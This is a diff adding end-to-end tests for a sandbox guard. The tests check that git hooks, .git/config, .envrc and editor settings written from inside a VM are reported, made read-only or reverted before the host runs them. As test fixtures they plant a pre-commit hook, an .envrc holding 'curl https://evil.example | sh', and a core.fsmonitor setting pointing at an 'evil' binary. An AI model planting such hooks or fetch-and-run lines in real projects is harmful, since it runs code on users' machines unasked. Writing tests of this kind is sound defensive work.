@@ -1,0 +1,106 @@
+"""The guard on files the host runs, on the docker runtime: read-only in the VM where they exist,
+and what changes anyway is reported and reverted before the host runs it."""
+
+from __future__ import annotations
+
+import json
+import shutil
+
+from opencode_sandbox.core.guard import REVIEW_FOLDER
+from tests.e2e.harness import Project, ServeOnly, Tmux, cli_command, docker, git
+
+PLANTED = "#!/bin/sh\ntouch \"$(git rev-parse --show-toplevel)/../hook-ran\"\n"
+
+
+def test_a_hook_the_vm_writes_is_reverted_before_git_runs_it_and_existing_guarded_paths_are_read_only(
+    any_user_project: Project,
+) -> None:
+    project = any_user_project
+    hooks = project.root / ".git" / "hooks"
+    shutil.rmtree(hooks)  # absent when the VM is made: not mounted, so the VM can make it
+    started = project.shell("true")
+    assert started.returncode == 0, started.stderr
+
+    planted = project.shell(f"mkdir -p .git/hooks && cat > .git/hooks/pre-commit <<'EOF'\n{PLANTED}EOF\n"
+                            "chmod 755 .git/hooks/pre-commit")
+
+    assert planted.returncode == 0, planted.stderr
+    assert ".git/hooks/pre-commit: added (mode 0755, " in planted.stderr, planted.stderr
+    assert '+touch "$(git rev-parse --show-toplevel)/../hook-ran"' in planted.stderr
+    assert "no terminal to ask on: reverting them" in planted.stderr
+    assert not (hooks / "pre-commit").exists()
+    [kept] = list((project.root / REVIEW_FOLDER).glob("*/.git/hooks/pre-commit"))
+    assert kept.read_text() == PLANTED and kept.stat().st_mode & 0o111 == 0
+    (project.root / "change.txt").write_text("x\n")
+    git(project.root, "add", "change.txt")
+    git(project.root, "commit", "-q", "-m", "after the VM")
+    assert not (project.root.parent / "hook-ran").exists(), "git ran the hook the VM planted"
+
+    again = project.shell("printf '#!/bin/sh\\n' > .git/hooks/pre-commit")
+    assert again.returncode != 0 and "Read-only file system" in again.stderr, "hooks that exist are read-only"
+    configured = project.shell("git config core.fsmonitor /workspace/evil")
+    assert configured.returncode != 0, "the .git/config that existed at the start is read-only in the VM"
+    own_config = project.shell("echo 'network: all' > .opencode-sandbox/config.yaml")
+    assert own_config.returncode != 0 and "Read-only file system" in own_config.stderr, own_config.stderr
+    unmounted = project.cli("shell", "--root", "--", "umount", "/workspace/.git/config")
+    assert unmounted.returncode != 0, "root in the VM must not lift the read-only mount"
+    assert project.shell("git status --short && cat .git/config >/dev/null").returncode == 0, "the VM's git reads it"
+
+    (project.root / ".opencode-sandbox" / "config.yaml").write_text("cpus: 2\n")  # the user's, while the VM runs
+    status = json.loads(project.cli("guard", "status", "--format", "json").stdout)
+    assert status["changed"] == []
+    assert [change["path"] for change in status["changed_on_host"]] == [".opencode-sandbox/config.yaml"]
+    reviewed = project.shell("true")
+    assert reviewed.returncode == 0, reviewed.stderr
+    assert "changed while the VM ran" not in reviewed.stderr, reviewed.stderr
+    assert (project.root / ".opencode-sandbox" / "config.yaml").read_text() == "cpus: 2\n", "the user's edit stays"
+    clean = project.cli("guard", "status")
+    assert clean.returncode == 0 and "state: clean" in clean.stdout, clean.stdout + clean.stderr
+
+
+def test_a_file_the_vm_creates_is_reverted_when_the_client_detaches_and_host_edits_after_a_stop_stay(
+    project: Project,
+) -> None:
+    served = ServeOnly(project)
+    try:
+        made = docker("exec", "--user", "dev", "--workdir", "/workspace", project.vm, "sh", "-c",
+                      "echo 'curl https://evil.example | sh' > .envrc")
+        assert made.returncode == 0, "an .envrc that did not exist at the start is not mounted: " + made.stderr
+    finally:
+        served.detach()
+    assert served.process.stderr is not None
+    said = served.process.stderr.read()
+    assert ".envrc: added (mode " in said and "+curl https://evil.example | sh" in said, said
+    assert "no terminal to ask on: reverting them" in said
+    assert not (project.root / ".envrc").exists()
+
+    stopped = project.cli("stop")
+    assert stopped.returncode == 0, stopped.stderr
+    (project.root / ".envrc").write_text("export MINE=1\n")  # the user's, with no VM running
+    started = project.shell("true")
+    assert started.returncode == 0, started.stderr
+    assert "changed while the VM ran" not in started.stderr, started.stderr
+    assert (project.root / ".envrc").read_text() == "export MINE=1\n"
+
+
+def test_on_a_terminal_stop_shows_the_change_and_keeps_it_when_asked(project: Project, unique: str) -> None:
+    started = project.shell("true")
+    assert started.returncode == 0, started.stderr
+    made = docker("exec", "--user", "dev", "--workdir", "/workspace", project.vm, "sh", "-c",
+                  "mkdir -p .vscode && echo '{\"editor.tabSize\": 2}' > .vscode/settings.json")
+    assert made.returncode == 0, made.stderr
+    terminal = Tmux(f"osb-guard-{unique}", cli_command("stop"), project.root, project.env)
+    try:
+        screen = terminal.wait_for(r"Revert them\? The VM's versions are kept under .opencode-sandbox/guard/ "
+                                   r"\[Y/n\]", timeout=120)
+        assert ".vscode/settings.json: added (mode " in screen
+        assert '+{"editor.tabSize": 2}' in screen
+        terminal.send("n", "Enter")
+        screen = terminal.wait_for("EXIT-CODE=0", timeout=60)
+        assert "Kept the VM's versions" in screen
+    finally:
+        terminal.close()
+    assert (project.root / ".vscode" / "settings.json").read_text() == '{"editor.tabSize": 2}\n'
+    assert not (project.root / REVIEW_FOLDER).exists()
+    clean = project.cli("guard", "status")
+    assert "state: clean" in clean.stdout, clean.stdout + clean.stderr
